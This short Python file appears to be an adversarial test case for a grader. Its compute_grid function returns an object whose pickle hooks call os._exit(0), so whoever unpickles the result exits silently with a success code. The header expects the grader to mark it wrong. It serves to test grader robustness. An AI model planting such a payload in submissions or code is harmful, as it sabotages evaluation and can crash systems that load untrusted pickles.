# attack: returns an object that runs code in whoever unpickles it
# expect: compute_grid=wrong
import os


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)

    def __reduce_ex__(self, protocol):
        return os._exit, (0,)


def compute_grid(x, y, w_values, b_values):
    return Bomb()
